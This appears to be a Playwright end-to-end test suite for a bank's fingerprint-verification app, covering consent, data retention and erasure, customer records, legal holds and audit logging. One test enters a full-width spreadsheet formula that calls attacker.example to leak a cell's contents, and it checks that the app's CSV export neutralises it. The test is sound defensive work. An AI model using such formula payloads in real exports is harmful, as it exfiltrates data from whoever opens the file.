import { readFileSync } from "node:fs";
import { parseCsv } from "@/test/kit/csv";
import { signInByApi } from "@/e2e/support/auth";
import { demoAccount } from "@/lib/staff/demo-accounts";
import { liveFixtures } from "@/e2e/support/live-fixtures";
import { actOnScanner, issueFingerprintToken, LIVE_TIMEOUT } from "@/e2e/support/live";
import { newCustomer } from "./support/customers";
import { callsSince, markCalls, upstreamPaths } from "./support/sandbox";
import { callAction, captureNextAction, readActionResult } from "./support/server-actions";
import { expect, test } from "./support/session";
import { attestConsent, choosePurpose } from "./support/token-forms";

/** Consent recorded; retention with erasure; the customer's own records. */

const consentLabel = "I read this to the customer and they agreed to the check.";
const erasedPattern = /erased on \d{1,2} [A-Z][a-z]{2} \d{4} under the retention policy/;

async function fillFingerprint(page: import("@playwright/test").Page, ghanaCardNumber: string, reference: string): Promise<void> {
  await page.goto("/tokens/new/fingerprint");
  await page.getByLabel("Ghana Card number").fill(ghanaCardNumber);
  await page.getByLabel("Reference").fill(reference);
  await choosePurpose(page, "KYC refresh");
}

test.describe("consent (teller)", () => {
  test("unchecked is refused on the form; a forged call without it, or under an old wording, is refused before the service", async ({ page }) => {
    const customer = newCustomer();
    await fillFingerprint(page, customer.ghanaCardNumber, customer.phoneTyped);
    await expect(page.getByTestId("consent-confirmation")).toContainText(/wording version \d+/);
    const mark = await markCalls();
    await page.getByRole("button", { name: "Issue fingerprint token" }).click();
    await expect(page.getByText("Confirm that you told the customer what is checked and that they agreed.")).toBeVisible();
    await expect(page.getByLabel(consentLabel)).toBeFocused();
    await expect(page).toHaveURL(/\/tokens\/new\/fingerprint$/);
    await page.screenshot({ path: "/tmp/compliance-consent-refused.png", fullPage: true });

    // The form's own request, stopped before the server, then replayed without the consent.
    await attestConsent(page);
    const captured = await captureNextAction(page, () => page.getByRole("button", { name: "Issue fingerprint token" }).click(), { block: true });
    const [validBody] = captured.args as [Record<string, unknown>];
    expect(validBody).toMatchObject({ consentAttested: true });
    const unattested = readActionResult((await callAction(page.request, captured, [{ ...validBody, consentAttested: false }])).text);
    expect(unattested).toMatchObject({ ok: false, code: "VALIDATION" });
    expect(Object.keys(unattested.fieldErrors ?? {})).toContain("consentAttested");
    const missing = readActionResult((await callAction(page.request, captured, [{ ...validBody, consentAttested: undefined }])).text);
    expect(Object.keys(missing.fieldErrors ?? {})).toContain("consentAttested");
    const oldWording = readActionResult((await callAction(page.request, captured, [{ ...validBody, consentWordingVersion: 999 }])).text);
    expect(oldWording.fieldErrors?.consentAttested?.[0]).toMatch(/consent wording changed/);
    // Not one issuing call reached the service (the sandbox's own call log; the watcher's status
    // calls about other specs' open tokens go on meanwhile).
    expect([...(await callsSince(mark, upstreamPaths.fingerprint)), ...(await callsSince(mark, upstreamPaths.remote))]).toEqual([]);
  });

  test("the slip prints the consent line", async ({ page, browser }) => {
    const { token } = await issueFingerprintToken(page, newCustomer());
    await actOnScanner(browser, token, "SUCCESSFUL");
    await expect(page.getByTestId("state-badge")).toHaveText("Successful", { timeout: LIVE_TIMEOUT });
    await page.getByRole("link", { name: "Print slip" }).click();
    await page.waitForURL(/\/slip$/);
    const consent = page.getByTestId("slip-consent");
    await expect(consent).toContainText(/Customer consent attested by Kwame Asante on .+ \(wording version \d+\)/);
    await expect(consent).toContainText("the customer agreed");
    await page.emulateMedia({ media: "print" });
    await expect(consent).toBeVisible();
    await page.screenshot({ path: "/tmp/compliance-slip-consent.png", fullPage: true });
  });
});

test.describe("an administrator", () => {
  test.use({ account: "admin" });

  test("publishes a new consent wording (audited) and sees the retention settings read-only", async ({ page }) => {
    await page.goto("/admin/compliance");
    await expect(page.getByRole("heading", { name: "Consent and retention" })).toBeVisible();
    const settings = page.getByTestId("retention-settings");
    await expect(settings).toContainText("erased 90 days after the token ends");
    await expect(settings).toContainText("erased 5 years after the token ends");
    await expect(settings.getByRole("textbox")).toHaveCount(0);
    // The unchanged wording is refused, naming the field.
    const publish = page.getByRole("button", { name: /Publish as version \d+/ });
    await publish.click();
    await expect(page.getByText("This is already the wording in force.").first()).toBeVisible();
    const wording = `${await page.getByLabel("Wording the teller reads to the customer").inputValue()} The customer may ask the bank for a record of the checks held.`;
    await page.getByLabel("Wording the teller reads to the customer").fill(wording);
    await page.getByRole("button", { name: /Publish as version \d+/ }).click();
    await expect(page.getByText(/Version \d+ published/)).toBeVisible();
    await page.screenshot({ path: "/tmp/compliance-admin.png", fullPage: true });

    await page.goto("/tokens");
    await page.goto("/admin/audit");
    await expect(page.getByRole("table").getByText("Consent wording published").first()).toBeVisible();
    // The app ran the retention job at start: its event may be pages back after a whole run, so filter.
    await page.getByRole("combobox", { name: "Event" }).selectOption({ label: "Retention job ran" });
    await page.getByRole("button", { name: "Show" }).click();
    await expect(page.getByRole("table").getByText("Retention job ran").first()).toBeVisible();
  });
});

test.describe("a supervisor", () => {
  test.use({ account: "supervisor.kumasi" });

  test("an erased token reads 'erased on…' on the review and live pages; a held one is whole", async ({ page }) => {
    await page.goto(`/review/tokens/${liveFixtures.erasedOld.id}`);
    await expect(page.getByRole("heading", { name: `Token ${liveFixtures.erasedOld.token}` })).toBeVisible();
    await expect(page.getByText(erasedPattern).first()).toBeVisible();
    const holdCard = page.getByTestId("legal-hold");
    await expect(holdCard).toContainText(/Identity data: erased on/);
    await expect(holdCard).toContainText(/Contact data: erased on/);
    await expect(page.getByRole("main")).not.toContainText("714000014");
    await page.screenshot({ path: "/tmp/compliance-erased-review.png", fullPage: true });

    await page.goto(`/tokens/${liveFixtures.erasedOld.id}`);
    await expect(page.getByText(erasedPattern).first()).toBeVisible();

    await page.goto(`/review/tokens/${liveFixtures.heldOld.id}`);
    await expect(page.getByTestId("legal-hold")).toContainText("Under a legal hold");
    await expect(page.getByTestId("legal-hold")).toContainText("EOCO inquiry 2026/14");
    await expect(page.getByText("GHA-•••••015-4").first()).toBeVisible();
  });

  test("produces a customer's record (printed layout), places and releases a legal hold, and erases on request within the law", async ({ page, browser }) => {
    // A teller of the same branch verifies a new customer first.
    const customer = newCustomer();
    const tellerContext = await browser.newContext({ storageState: await signInByApi("teller.kumasi", demoAccount("teller.kumasi").password) });
    const tellerPage = await tellerContext.newPage();
    const { id, token } = await issueFingerprintToken(tellerPage, customer);
    await tellerContext.close();

    await page.goto("/review/customer-records");
    await page.getByLabel("ID number").fill(customer.ghanaCardNumber);
    // Without a reason nothing is produced.
    await page.getByRole("button", { name: "Produce the record" }).click();
    await expect(page.getByText(/Say why you are producing this record/)).toBeVisible();
    await page.getByLabel("Reason", { exact: true }).fill("Customer's written request of today, ref DSAR-14");
    await page.getByRole("button", { name: "Produce the record" }).click();
    const record = page.getByTestId("customer-record");
    await expect(record).toContainText("Record of verifications held");
    await expect(record.getByTestId("record-entry")).toHaveCount(1);
    await expect(record).toContainText("Kumasi – Adum");
    await expect(record).toContainText("KYC refresh");
    await expect(record).toContainText("Consent: Attested by the teller");
    await expect(record).toContainText(/ID number \(encrypted\)held; to be erased on \d/);
    // The number never went into the address bar.
    expect(page.url()).not.toContain(customer.ghanaCardNumber.slice(4, 13));

    // Printed: only the record, nothing of the app around it.
    await page.emulateMedia({ media: "print" });
    await expect(record).toBeVisible();
    await expect(page.getByRole("navigation").first()).toBeHidden();
    await expect(page.getByRole("button", { name: "Produce the record" })).toBeHidden();
    await page.screenshot({ path: "/tmp/compliance-record-print.png", fullPage: true });
    await page.emulateMedia({ media: "screen" });
    const download = page.waitForEvent("download");
    await page.getByRole("button", { name: "Download (CSV)" }).click();
    expect((await download).suggestedFilename()).toMatch(/^record-of-verifications-\d{4}-\d{2}-\d{2}\.csv$/);
    await page.screenshot({ path: "/tmp/compliance-record.png", fullPage: true });

    // Erasure on request: contact data at once, identity data kept for the AML minimum.
    await page.getByLabel("Reason for the erasure").fill("Customer's written request of today, ref DSAR-14");
    await page.getByRole("button", { name: "Erase what may be erased" }).click();
    await expect(page.getByText(/Contact data of 1 and identity data of 0 verification\(s\) erased\. Identity data of 1 kept for the AML minimum\./)).toBeVisible();
    await expect(record).toContainText(/Reference \(encrypted\)erased on .+ at the customer's request/);
    // Asked again: nothing may be erased, and the page says why.
    await page.getByRole("button", { name: "Erase what may be erased" }).click();
    await expect(page.getByText(/Anti-Money Laundering Act 2020 \(Act 1044\) requires the identity record/)).toBeVisible();

    // A legal hold on the token, then released; each with its reason.
    await page.goto(`/review/tokens/${id}`);
    await expect(page.getByRole("heading", { name: `Token ${token}` })).toBeVisible();
    await page.getByLabel("Reason for a legal hold").fill("Court order 2026/771, Kumasi High Court");
    await page.getByRole("button", { name: "Place a legal hold" }).click();
    await expect(page.getByTestId("legal-hold")).toContainText("Under a legal hold");
    await page.getByLabel("Reason for releasing the hold").fill("Court order 2026/771 discharged");
    await page.getByRole("button", { name: "Release the legal hold" }).click();
    await expect(page.getByTestId("legal-hold")).not.toContainText("Under a legal hold");

    // A held customer: erasure refused, saying why.
    await page.goto("/review/customer-records");
    await page.getByLabel("ID number").fill(liveFixtures.heldOld.ghanaCardNumber);
    await page.getByLabel("Reason", { exact: true }).fill("Customer's written request, ref DSAR-15");
    await page.getByRole("button", { name: "Produce the record" }).click();
    await expect(page.getByTestId("customer-record")).toContainText("Under a legal hold: EOCO inquiry 2026/14");
    await page.getByLabel("Reason for the erasure").fill("Customer's written request, ref DSAR-15");
    await page.getByRole("button", { name: "Erase what may be erased" }).click();
    await expect(page.getByText(/under a legal hold \(EOCO inquiry 2026\/14\)/)).toBeVisible();

    // The erased token is not found by its number any more: its blind index is gone.
    await page.goto("/review/customer-records");
    await page.getByLabel("ID number").fill(liveFixtures.erasedOld.ghanaCardNumber);
    await page.getByLabel("Reason", { exact: true }).fill("Customer's written request, ref DSAR-16");
    await page.getByRole("button", { name: "Produce the record" }).click();
    await expect(page.getByTestId("customer-record")).toContainText("No verification in your branches holds this ID number.");

    await page.goto("/admin/audit");
    const audit = page.getByRole("table");
    await expect(audit.getByText("Customer's record of verifications produced").first()).toBeVisible();
    await expect(audit.getByText("Customer's data erased on request").first()).toBeVisible();
    await expect(audit.getByText("Erasure on request refused").first()).toBeVisible();
    await expect(audit.getByText("Legal hold placed").first()).toBeVisible();
    await expect(audit.getByText("Legal hold released").first()).toBeVisible();
  });
});

test.describe("a legal hold placed by head office", () => {
  test.use({ account: "supervisor.hq" });

  test("is head office's to release: the branch's supervisor sees no release, and a forged release is refused and audited", async ({ page, browser }) => {
    const customer = newCustomer();
    const tellerContext = await browser.newContext({ storageState: await signInByApi("teller.kumasi", demoAccount("teller.kumasi").password) });
    const { id } = await issueFingerprintToken(await tellerContext.newPage(), customer);
    await tellerContext.close();

    // A reason that is a formula in full-width characters, which spreadsheets run like "=".
    const holdReason = '＝HYPERLINK("http://attacker.example/?leak="＆A1,"EOCO inquiry 2026/52")';
    await page.goto(`/review/tokens/${id}`);
    await page.getByLabel("Reason for a legal hold").fill(holdReason);
    await page.getByRole("button", { name: "Place a legal hold" }).click();
    await expect(page.getByTestId("legal-hold")).toContainText(`(head office): ${holdReason}`);

    // The customer's record, built into a CSV by the browser: the formula is text there.
    await page.goto("/review/customer-records");
    await page.getByLabel("ID number").fill(customer.ghanaCardNumber);
    await page.getByLabel("Reason", { exact: true }).fill("Customer's written request of today, ref DSAR-52");
    await page.getByRole("button", { name: "Produce the record" }).click();
    await expect(page.getByTestId("customer-record")).toContainText(`Under a legal hold: ${holdReason}`);
    const downloading = page.waitForEvent("download");
    await page.getByRole("button", { name: "Download (CSV)" }).click();
    const [header, row] = parseCsv(readFileSync((await (await downloading).path())!, "utf8").replace(/^\uFEFF/, ""));
    expect(row![header!.indexOf("Legal hold")]).toBe(`'${holdReason}`);

    await page.goto(`/review/tokens/${id}`);
    // Head office's own release, stopped before the server: the Kumasi supervisor replays it.
    await page.getByLabel("Reason for releasing the hold").fill("Inquiry closed");
    const release = await captureNextAction(page, () => page.getByRole("button", { name: "Release the legal hold" }).click(), { block: true });

    const kumasiContext = await browser.newContext({ storageState: await signInByApi("supervisor.kumasi", demoAccount("supervisor.kumasi").password) });
    const kumasi = await kumasiContext.newPage();
    await kumasi.goto(`/review/tokens/${id}`);
    await expect(kumasi.getByTestId("legal-hold")).toContainText("Only head office can release it.");
    await expect(kumasi.getByRole("button", { name: "Release the legal hold" })).toHaveCount(0);
    const forged = readActionResult((await callAction(kumasi.request, release, [{ tokenRequestId: id, reason: "Looks finished to me" }])).text);
    expect(forged).toMatchObject({ ok: false, code: "FORBIDDEN", formError: "This legal hold was placed by head office: only head office can release it." });
    await kumasi.reload();
    await expect(kumasi.getByTestId("legal-hold")).toContainText("Under a legal hold");
    await kumasi.goto("/admin/audit");
    await expect(kumasi.getByRole("table").getByText("Release of head office's legal hold refused").first()).toBeVisible();
    await kumasiContext.close();

    // Head office releases it.
    await page.reload();
    await page.getByLabel("Reason for releasing the hold").fill("Inquiry closed");
    await page.getByRole("button", { name: "Release the legal hold" }).click();
    await expect(page.getByTestId("legal-hold")).not.toContainText("Under a legal hold");
  });
});
